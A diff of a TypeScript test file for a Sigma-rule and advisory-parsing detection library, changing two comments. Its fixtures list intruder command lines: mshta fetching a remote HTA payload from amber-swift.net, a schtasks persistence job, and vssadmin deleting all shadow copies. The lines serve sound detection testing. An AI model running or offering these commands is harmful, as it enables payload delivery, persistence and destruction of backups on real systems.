@@ -2,7 +2,7 @@ import { generate, read } from '@tripline/advisory';
 import { createMatcher, parseSigma, type SigmaRule } from '@tripline/sigma';
 import * as fc from 'fast-check';
 
-/** What an intruder typed, and the process whose command line it is. */
+/** A line an intruder typed, and the process with that command line. */
 const COMMANDS: readonly (readonly [program: string, line: string])[] = [
   ['mshta', 'mshta http://amber-swift.net/stage/amber.hta'],
   ['schtasks', 'schtasks /create /tn AmberUpdate /tr "C:\\ProgramData\\Amber\\a.exe" /sc minute'],
@@ -13,7 +13,7 @@ const COMMANDS: readonly (readonly [program: string, line: string])[] = [
   ['vssadmin', 'vssadmin delete shadows /all /quiet'],
 ];
 
-/** How pages show a line: as it is, defanged, with the dashes and quotes of print. */
+/** The ways in which pages print a line: unchanged, defanged, or with typographic dashes and quotes. */
 const SHOWN: readonly ((line: string) => string)[] = [
   (line) => line,
   (line) => line.replace('http:', 'hxxp:').replace(/(amber-swift|122)\./, '$1[.]'),
